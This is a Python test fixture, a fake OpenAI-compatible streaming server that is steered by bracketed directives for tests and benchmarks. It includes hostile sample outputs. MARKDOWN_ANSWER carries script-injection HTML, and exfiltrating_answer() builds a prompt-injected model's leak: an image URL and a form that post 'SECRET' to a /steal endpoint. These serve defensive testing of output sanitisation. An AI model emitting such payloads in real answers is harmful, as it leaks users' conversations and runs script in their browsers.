"""A local OpenAI-compatible HTTP server that streams, for tests and benchmarks.

It is a real HTTP/1.1 server (asyncio, in a background thread), so the platform's real
``openai`` SDK path is exercised. It records every call: the request body, when the first
token byte was written, and when the client closed the stream before the end.

Directives in the last user message steer it:
``[[tokens=N]]`` answer with N tokens, ``[[delay=S]]`` seconds between tokens,
``[[fail-before]]`` answer HTTP 500, ``[[fail-mid]]`` drop the connection after 3 tokens,
``[[fail-first=N]]`` answer HTTP 503 to the first N requests with this same message,
``[[no-usage]]`` send no usage chunk, ``[[cached=N]]`` report N cached prompt tokens,
``[[markdown]]`` answer with ``MARKDOWN_ANSWER`` (markdown, code and hostile HTML),
``[[unstorable]]`` answer with ``UNSTORABLE_ANSWER`` (a NUL and a lone surrogate),
``[[exfiltrate=PORT]]`` answer with ``exfiltrating_answer(PORT)`` (a remote image, a form).

Tools, as the real API streams them (each call's id and name first, then its JSON arguments in
pieces, several calls in one response, ``finish_reason: "tool_calls"``): ``[[call:NAME {json}]]``
(one or more) asks for those calls when the request offers tools and the last message is the
user's; once the tools answered (the last message is a tool's), the answer quotes their results
("Tool results: ..."). ``[[call-always]]`` asks for the calls again after every tool answer (until
the request says ``tool_choice: "none"``).
"""

import asyncio
import hashlib
import json
import re
import threading
import time
from dataclasses import dataclass, field
from typing import Any

_DIRECTIVE = re.compile(r"\[\[([a-z-]+)(?:=([0-9.]+))?\]\]")
_CALL = re.compile(r"\[\[call:([a-zA-Z0-9_-]+) (\{.*?\})\]\]")

MARKDOWN_ANSWER = (
    "Here is **bold** text and `inline code`.\n\n"
    "```python\nprint('hello')\n```\n\n"
    "| plan | price |\n|---|---|\n| free | 0 |\n\n"
    '<img src=x onerror="window.__pwned = true"> <script>window.__pwned = true</script> done.'
)

# Text PostgreSQL cannot store, as a hostile or broken upstream may send it (JSON escapes).
UNSTORABLE_ANSWER = ["before ", "nul\x00 ", "half\ud800 ", "after"]


def exfiltrating_answer(port: int) -> str:
    """What a prompt-injected model writes to leak the conversation: an image whose URL carries
    it (fetched as soon as the answer renders) and a form that posts it."""
    leak = f"http://127.0.0.1:{port}"
    return (
        f"Done! ![status]({leak}/leak.png?c=SECRET) "
        f'<form action="{leak}/steal" method="post"><input name="c" value="SECRET">'
        "<button>Continue</button></form> The end."
    )


@dataclass
class FakeCall:
    body: dict[str, Any]
    started_at: float
    first_token_at: float | None = None
    client_closed_at: float | None = None
    completed: bool = False
    tokens_sent: int = 0
    closed: threading.Event = field(default_factory=threading.Event)

    @property
    def messages(self) -> list[dict[str, str]]:
        return self.body.get("messages", [])

    def record(self) -> dict[str, Any]:
        """What ``GET /v1/_calls`` reports: enough for a benchmark in another process."""
        last_user = next((_text(m["content"]) for m in reversed(self.messages) if m["role"] == "user"), "")
        return {
            "last_user_message": last_user,
            "system": next((m["content"] for m in self.messages if m["role"] == "system"), ""),
            "model": self.body.get("model"),
            "started_at": self.started_at,
            "first_token_at": self.first_token_at,
            "client_closed_at": self.client_closed_at,
            "tokens_sent": self.tokens_sent,
            "completed": self.completed,
        }


class FakeOpenAI:
    def __init__(self, *, token_delay: float = 0.002, tokens: int = 12, sign: bool = False) -> None:
        self.token_delay = token_delay
        self.tokens = tokens
        # Each answer opens with ``re:`` and a digest of the question it answers, so a benchmark
        # can tell which question a cached answer was written for (``bench/savings.py``).
        self.sign = sign
        self.calls: list[FakeCall] = []
        self.connections_accepted = 0
        # Requests for these models fail with 503, as a provider's outage of one model.
        self.failing_models: set[str] = set()
        self._attempts: dict[str, int] = {}  # last user message -> requests seen ([[fail-first=N]])
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True, name="fake-openai")
        self._server: asyncio.base_events.Server | None = None
        self.port = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def start(self, port: int = 0) -> "FakeOpenAI":
        self._thread.start()
        future = asyncio.run_coroutine_threadsafe(
            asyncio.start_server(self._handle, "127.0.0.1", port, backlog=1024), self._loop
        )
        self._server = future.result(5)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    def stop(self) -> None:
        asyncio.run_coroutine_threadsafe(self._shutdown(), self._loop).result(5)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)

    async def _shutdown(self) -> None:
        if self._server is not None:
            self._server.close()
        tasks = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    def reset(self) -> None:
        self.calls.clear()
        self.connections_accepted = 0
        self.failing_models.clear()
        self._attempts.clear()

    # -- HTTP ------------------------------------------------------------------------------

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections_accepted += 1
        leftover = b""
        try:
            while True:
                head = leftover + await reader.readuntil(b"\r\n\r\n")
                leftover = b""
                lines = head.decode("latin-1").split("\r\n")
                method, path, _ = lines[0].split(" ", 2)
                headers = {k.lower(): v.strip() for k, _, v in (h.partition(":") for h in lines[1:] if h)}
                body = await reader.readexactly(int(headers.get("content-length", "0")))
                if method == "POST" and path.endswith("/chat/completions"):
                    leftover = await self._completion(json.loads(body or b"{}"), reader, writer)
                    if leftover is None:
                        return
                elif method == "GET" and path.endswith("/_calls"):
                    self._json(writer, 200, {"calls": [call.record() for call in self.calls]})
                elif method == "GET" and path.endswith("/models"):
                    self._json(
                        writer, 200, {"object": "list", "data": [{"id": "gpt-4o-mini", "object": "model"}]}
                    )
                else:
                    self._json(
                        writer, 404, {"error": {"message": "not found", "type": "invalid_request_error"}}
                    )
                await writer.drain()
        except (
            asyncio.IncompleteReadError,
            ConnectionError,
            asyncio.LimitOverrunError,
            asyncio.CancelledError,
        ):
            pass
        finally:
            writer.close()

    @staticmethod
    def _json(writer: asyncio.StreamWriter, status: int, payload: dict[str, Any]) -> None:
        data = json.dumps(payload).encode()
        reason = {200: "OK", 404: "Not Found", 500: "Internal Server Error", 503: "Service Unavailable"}[
            status
        ]
        writer.write(
            f"HTTP/1.1 {status} {reason}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(data)}\r\n\r\n".encode()
            + data
        )

    async def _completion(
        self, body: dict[str, Any], reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bytes | None:
        """Stream one completion; returns bytes read ahead of the next request, or None when
        the connection is gone."""
        call = FakeCall(body=body, started_at=time.monotonic())
        self.calls.append(call)
        last_user = next((_text(m["content"]) for m in reversed(call.messages) if m["role"] == "user"), "")
        directives = {name: value for name, value in _DIRECTIVE.findall(last_user)}
        attempt = self._attempts[last_user] = self._attempts.get(last_user, 0) + 1
        if body.get("model") in self.failing_models or attempt <= int(directives.get("fail-first") or 0):
            self._json(writer, 503, {"error": {"message": "overloaded", "type": "server_error"}})
            call.completed = True
            return b""
        if "fail-before" in directives:
            self._json(writer, 500, {"error": {"message": "upstream exploded", "type": "server_error"}})
            call.completed = True
            return b""
        last = call.messages[-1] if call.messages else {}
        calls = _CALL.findall(last_user)
        may_call = bool(body.get("tools")) and body.get("tool_choice") != "none"
        if calls and may_call and (last.get("role") == "user" or "call-always" in directives):
            return await self._tool_calls(call, calls, reader, writer)
        if last.get("role") == "tool":
            results = " | ".join(m.get("content") or "" for m in call.messages if m.get("role") == "tool")
            pieces = re.findall(r"\s*\S+", f"Tool results: {results}")
        elif "markdown" in directives:
            pieces = re.findall(r"\s*\S+", MARKDOWN_ANSWER)
        elif "unstorable" in directives:
            pieces = UNSTORABLE_ANSWER
        elif directives.get("exfiltrate"):
            pieces = re.findall(r"\s*\S+", exfiltrating_answer(int(directives["exfiltrate"])))
        else:
            pieces = [f"tok{i} " for i in range(int(float(directives.get("tokens") or self.tokens)))]
            if self.sign:
                pieces[0] = f"re:{answer_sign(last_user)} "
        count = len(pieces)
        delay = float(directives["delay"]) if directives.get("delay") else self.token_delay
        model = body.get("model", "gpt-4o-mini")
        max_tokens = body.get("max_tokens") or count
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-cache\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )

        # A client that goes away is noticed at once, not at the next write.
        watch = asyncio.ensure_future(reader.read(1))
        finish_reason = "stop" if count <= max_tokens else "length"
        try:
            for index in range(min(count, max_tokens)):
                if watch.done():
                    break
                delta = {"content": pieces[index]}
                if index == 0:
                    delta["role"] = "assistant"
                self._event(writer, _chunk(model, delta, None))
                await writer.drain()
                if call.first_token_at is None:
                    call.first_token_at = time.monotonic()
                call.tokens_sent += 1
                if "fail-mid" in directives and call.tokens_sent == 3:
                    writer.transport.abort()
                    call.completed = True
                    return None
                await asyncio.wait([watch], timeout=delay)
            if watch.done() and not watch.result():
                call.client_closed_at = time.monotonic()
                call.closed.set()
                return None
            self._event(writer, _chunk(model, {}, finish_reason))
            if "no-usage" not in directives:
                prompt_tokens = sum(len(_text(m.get("content")).split()) + 4 for m in call.messages)
                usage = {
                    "prompt_tokens": prompt_tokens,
                    "completion_tokens": call.tokens_sent,
                    "total_tokens": prompt_tokens + call.tokens_sent,
                    "prompt_tokens_details": {"cached_tokens": int(float(directives.get("cached") or 0))},
                }
                self._event(writer, {**_chunk(model, {}, None), "choices": [], "usage": usage})
            done = b"data: [DONE]\n\n"
            writer.write(f"{len(done):x}\r\n".encode() + done + b"\r\n0\r\n\r\n")
            await writer.drain()
        except ConnectionError:
            watch.cancel()
            call.client_closed_at = time.monotonic()
            call.closed.set()
            return None
        call.completed = True
        watch.cancel()
        try:
            # The watcher may have read the first byte of the next request, or seen the end.
            return await watch or None
        except asyncio.CancelledError:
            return b""

    async def _tool_calls(
        self,
        call: FakeCall,
        calls: list[tuple[str, str]],
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> bytes | None:
        """Stream a response that asks for ``calls`` (name, JSON arguments), as the API does."""
        model = call.body.get("model", "gpt-4o-mini")
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-cache\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        round_number = sum(1 for m in call.messages if m.get("role") == "assistant" and m.get("tool_calls"))
        for index, (name, arguments) in enumerate(calls):
            head = {"index": index, "id": f"call_{round_number}_{index}", "type": "function"}
            first = {**head, "function": {"name": name, "arguments": ""}}
            self._event(
                writer, _chunk(model, {"role": "assistant", "content": None, "tool_calls": [first]}, None)
            )
            third = max(1, len(arguments) // 3)
            for start in range(0, len(arguments), third):
                piece = {"index": index, "function": {"arguments": arguments[start : start + third]}}
                self._event(writer, _chunk(model, {"tool_calls": [piece]}, None))
            await writer.drain()
        self._event(writer, _chunk(model, {}, "tool_calls"))
        prompt_tokens = sum(len(_text(m.get("content")).split()) + 4 for m in call.messages)
        completion = sum(len(arguments) // 4 + 5 for _, arguments in calls)
        usage = {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": completion,
            "total_tokens": prompt_tokens + completion,
        }
        self._event(writer, {**_chunk(model, {}, None), "choices": [], "usage": usage})
        done = b"data: [DONE]\n\n"
        writer.write(f"{len(done):x}\r\n".encode() + done + b"\r\n0\r\n\r\n")
        await writer.drain()
        call.completed = True
        return b""

    @staticmethod
    def _event(writer: asyncio.StreamWriter, payload: dict[str, Any]) -> None:
        data = f"data: {json.dumps(payload)}\n\n".encode()
        writer.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")


def _text(content: Any) -> str:
    """A message's text: its content, or the text parts of a content list (images left out)."""
    if isinstance(content, list):
        return " ".join(part.get("text", "") for part in content if part.get("type") == "text")
    return content or ""


def _chunk(model: str, delta: dict[str, Any], finish_reason: str | None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-fake",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": model,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish_reason}],
    }


def answer_sign(question: str) -> str:
    """What a signed answer opens with after ``re:``: a digest of the question it answers."""
    return hashlib.sha256(question.encode()).hexdigest()[:12]


def main() -> None:
    """``python -m testkit.fake_openai --port 8765``: serve until interrupted."""
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8765)
    parser.add_argument("--token-delay", type=float, default=0.002)
    parser.add_argument("--tokens", type=int, default=12, help="answer length without [[tokens=N]]")
    parser.add_argument("--sign", action="store_true", help="answers open with a digest of their question")
    args = parser.parse_args()
    server = FakeOpenAI(token_delay=args.token_delay, tokens=args.tokens, sign=args.sign).start(args.port)
    print(f"fake OpenAI server on {server.url}", flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        server.stop()


if __name__ == "__main__":
    main()
